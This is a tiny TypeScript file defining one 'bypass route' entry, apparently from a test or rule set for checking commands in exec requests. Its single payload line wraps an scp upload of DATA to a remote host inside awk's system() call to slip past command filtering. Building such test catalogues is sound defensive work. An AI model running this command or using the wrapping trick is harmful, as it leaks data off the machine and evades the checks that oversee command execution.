import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'command',
  name: 'command: by awk',
  source: 'commands of one exec request',
  words: ['awk \'BEGIN { system("scp DATA host:") }\''],
};
